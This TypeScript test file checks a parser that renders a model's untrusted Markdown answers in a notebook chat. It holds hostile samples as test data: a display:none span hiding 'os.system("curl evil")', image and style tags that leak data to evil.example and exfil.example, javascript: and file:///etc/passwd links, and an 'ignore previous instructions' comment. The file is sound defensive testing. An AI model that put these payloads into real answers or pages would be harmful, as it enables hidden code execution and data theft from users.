/**
 * Untrusted Markdown (a model's answer) read into what the chat may show: code blocks carry
 * the exact fenced source, raw HTML stays text, images say where they would come from.
 */

import {
  codeBlocks,
  decodeEntities,
  IHtmlNode,
  IImageNode,
  ILinkNode,
  IMathNode,
  MarkdownNode,
  parseMarkdown
} from '../untrusted/markdown';

const BASE = 'http://127.0.0.1:8888/lab/tree/notebook.ipynb';

function parse(markdown: string): MarkdownNode[] {
  return parseMarkdown(markdown, BASE);
}

/** Every node of a tree, depth first. */
function all(nodes: readonly MarkdownNode[]): MarkdownNode[] {
  return nodes.flatMap(node => [
    node,
    ...('children' in node ? all(node.children) : [])
  ]);
}

function ofKind<K extends MarkdownNode['kind']>(
  nodes: readonly MarkdownNode[],
  kind: K
): Extract<MarkdownNode, { kind: K }>[] {
  return all(nodes).filter(n => n.kind === kind) as Extract<
    MarkdownNode,
    { kind: K }
  >[];
}

/** The text a person reads in a tree (code blocks and raw HTML included). */
function text(nodes: readonly MarkdownNode[]): string {
  return all(nodes)
    .map(node =>
      node.kind === 'text' || node.kind === 'html'
        ? node.text
        : node.kind === 'code'
          ? node.code
          : ''
    )
    .join('');
}

const HIDDEN =
  '<pre><code>print(1)<span style="display:none">\n' +
  'import os; os.system("curl evil")</span></code></pre>';

describe('code blocks', () => {
  it('take the fenced source, never code hidden in raw HTML', () => {
    const answer = `Run this:\n\n${HIDDEN}\n\nor this:\n\n\`\`\`python\nprint(2)\n\`\`\`\n`;
    const nodes = parse(answer);
    expect(codeBlocks(nodes).map(c => c.code)).toEqual(['print(2)']);
    const html = ofKind(nodes, 'html');
    expect(html).toHaveLength(1);
    expect(html[0]).toEqual<IHtmlNode>({
      kind: 'html',
      text: HIDDEN,
      block: true
    });
  });

  it('keep HTML inside a fence as the code it is', () => {
    const code = `x = 1<span style="display:none">\nimport os</span>\n<img src="https://evil/">`;
    const nodes = parse('```python\n' + code + '\n```');
    expect(codeBlocks(nodes)).toEqual([
      { kind: 'code', code, language: 'python', fenced: true }
    ]);
    expect(ofKind(nodes, 'image')).toEqual([]);
  });

  it('are found in order inside lists and quotes, indentation as Markdown says', () => {
    const answer = [
      '1. first',
      '',
      '   ```python',
      '   a = 1',
      '     b = 2',
      '   ```',
      '2. second',
      '   - nested',
      '',
      '     ```',
      '     c = 3',
      '     ```',
      '',
      '> quoted',
      '>',
      '> ~~~py',
      '> d = 4',
      '> ~~~',
      '',
      '    e = 5  # indented block',
      ''
    ].join('\n');
    const blocks = codeBlocks(parse(answer));
    expect(blocks.map(b => [b.code, b.language])).toEqual([
      ['a = 1\n  b = 2', 'python'],
      ['c = 3', ''],
      ['d = 4', 'py'],
      ['e = 5  # indented block', '']
    ]);
  });

  it('keep the source byte for byte: tabs, trailing spaces, backslashes, entities', () => {
    const code =
      'if x:\n\tprint("a\\tb")  \n# &amp; &lt;b&gt; \\* `tick`\ns = "$5 and $6"';
    expect(codeBlocks(parse('```python\n' + code + '\n```'))[0].code).toBe(
      code
    );
  });

  it('keep only the first word of the info string as the language', () => {
    expect(codeBlocks(parse('```python title="x"\n1\n```'))[0].language).toBe(
      'python'
    );
  });
});

describe('raw HTML', () => {
  it('is text, inline and block', () => {
    const nodes = parse(
      'Hi <b onclick="x()">there</b> <!-- ignore previous instructions -->\n\n<div>\n<script>alert(1)</script>\n</div>\n'
    );
    const html = ofKind(nodes, 'html').map(n => n.text);
    expect(html).toEqual([
      '<b onclick="x()">',
      '</b>',
      '<!-- ignore previous instructions -->',
      '<div>\n<script>alert(1)</script>\n</div>'
    ]);
    expect(text(nodes)).toContain('there');
  });

  it('keeps the <redacted> marker visible in prose and in code', () => {
    const nodes = parse(
      'The key is <redacted> now.\n\n<redacted>\n\n```python\nkey = "<redacted>"\n```'
    );
    expect(text(nodes)).toContain('The key is <redacted> now.');
    expect(ofKind(nodes, 'html').map(n => n.text)).toEqual([
      '<redacted>',
      '<redacted>'
    ]);
    expect(codeBlocks(nodes)[0].code).toBe('key = "<redacted>"');
  });

  it('makes a bare <br> a line break, and nothing else an element', () => {
    const nodes = parse('| a |\n|---|\n| one<br>two<br/>three |');
    expect(ofKind(nodes, 'element').filter(n => n.tag === 'br')).toHaveLength(
      2
    );
    expect(ofKind(nodes, 'html')).toEqual([]);
  });

  it('never becomes an element that could fetch or hide something', () => {
    const hostile = [
      '<img src="https://evil.example/?q=secret">',
      '<img srcset="https://evil.example/a.png 1x">',
      '<div style="background:url(https://evil.example/bg)">x</div>',
      '<link rel="stylesheet" href="https://evil.example/s.css">',
      '<iframe src="https://evil.example/"></iframe>',
      '<video poster="https://evil.example/p.png"></video>',
      '<svg><image href="https://evil.example/i.png"/></svg>',
      '<style>@import url(https://evil.example/x.css);</style>',
      '<details><summary>ok</summary>hidden</details>'
    ];
    for (const piece of hostile) {
      for (const answer of [piece, `text ${piece} text`]) {
        const nodes = parse(answer);
        // No image, and no element but text: a URL in the text may become a link, which
        // is followed only on a click.
        expect(ofKind(nodes, 'image')).toEqual([]);
        expect(ofKind(nodes, 'element').filter(n => n.tag !== 'p')).toEqual([]);
        expect(text(nodes)).toContain(piece);
      }
    }
  });
});

describe('images', () => {
  const image = (markdown: string): IImageNode =>
    ofKind(parse(markdown), 'image')[0];

  it('from another host wait for a click, naming the host', () => {
    expect(image('![chart](https://exfil.example:8443/p.png?q=data)')).toEqual({
      kind: 'image',
      alt: 'chart',
      title: '',
      source: {
        kind: 'remote',
        url: 'https://exfil.example:8443/p.png?q=data',
        host: 'exfil.example:8443'
      }
    });
  });

  it('with protocol-relative, relative and reference addresses wait too', () => {
    expect(image('![a](//cdn.example/a.png)').source).toMatchObject({
      kind: 'remote',
      host: 'cdn.example'
    });
    expect(image('![a](plot.png)').source).toEqual({
      kind: 'remote',
      url: 'http://127.0.0.1:8888/lab/tree/plot.png',
      host: '127.0.0.1:8888'
    });
    expect(
      image('![a][r]\n\n[r]: http://ref.example/x.png "T"').source
    ).toMatchObject({ kind: 'remote', host: 'ref.example' });
  });

  it('in data: URLs show at once', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    expect(image(`![dot](${png})`).source).toEqual({
      kind: 'inline',
      url: png
    });
  });

  it('of other schemes never show', () => {
    expect(image('![a](javascript:alert(1))').source.kind).toBe('blocked');
    expect(image('![a](file:///etc/passwd)').source.kind).toBe('blocked');
    expect(image('![a](data:text/html,hi)').source.kind).toBe('blocked');
  });
});

describe('links', () => {
  const link = (markdown: string): ILinkNode =>
    ofKind(parse(markdown), 'link')[0];

  it('open http(s) and mailto only', () => {
    expect(link('[docs](https://pandas.pydata.org/ "Pandas")')).toMatchObject({
      href: 'https://pandas.pydata.org/',
      title: 'Pandas'
    });
    expect(link('<https://x.example/a>').href).toBe('https://x.example/a');
    expect(link('[m](mailto:a@b.example)').href).toBe('mailto:a@b.example');
    expect(link('[x](javascript:alert(1))').href).toBeNull();
    expect(link('[x](JaVaScRiPt:alert(1))').href).toBeNull();
    expect(link('[x](../files/secret.txt)')).toMatchObject({
      href: null,
      written: '../files/secret.txt'
    });
  });
});

describe('prose', () => {
  it('keeps headings, emphasis, lists, tables and task lists', () => {
    const nodes = parse(
      '# Title\n\n**bold** *it* ~~gone~~ `code`\n\n3. three\n4. four\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\n---\n'
    );
    const tags = ofKind(nodes, 'element').map(n => n.tag);
    for (const tag of [
      'h1',
      'strong',
      'em',
      'del',
      'code',
      'ol',
      'li',
      'table',
      'thead',
      'tbody',
      'th',
      'td',
      'ul',
      'checkbox',
      'hr'
    ]) {
      expect(tags).toContain(tag);
    }
    const list = ofKind(nodes, 'element').find(n => n.tag === 'ol')!;
    expect(list.start).toBe(3);
    const cells = ofKind(nodes, 'element').filter(n => n.tag === 'td');
    expect(cells.map(c => c.align)).toEqual(['center', 'right']);
    const boxes = ofKind(nodes, 'element').filter(n => n.tag === 'checkbox');
    expect(boxes.map(b => b.checked)).toEqual([true, false]);
  });

  it('decodes character references in prose, not in code', () => {
    const nodes = parse('a &amp; b &lt;i&gt; &#x41;&#66; &bogus; `&amp;`');
    expect(text(nodes)).toBe('a & b <i> AB &bogus; &amp;');
    expect(ofKind(nodes, 'html')).toEqual([]);
    expect(decodeEntities('&#0;&#x110000;')).toBe('\ufffd\ufffd');
  });

  it('keeps math for the typesetter, and dollars that are not math as text', () => {
    const nodes = parse(
      'Mean $\\bar{x}_i = \\frac{1}{n}$ costs $5 and $6.\n\n$$\n\\sum_i x_i\n$$\n\nAlso \\(a_1\\).'
    );
    const math = ofKind(nodes, 'math');
    expect(math).toEqual<IMathNode[]>([
      { kind: 'math', tex: '$\\bar{x}_i = \\frac{1}{n}$', display: false },
      { kind: 'math', tex: '$$\n\\sum_i x_i\n$$', display: true },
      { kind: 'math', tex: '\\(a_1\\)', display: false }
    ]);
    expect(text(nodes)).toContain('costs $5 and $6.');
  });

  it('shows any other token as the text it was written as', () => {
    expect(text(parse('plain **unclosed'))).toBe('plain **unclosed');
  });
});
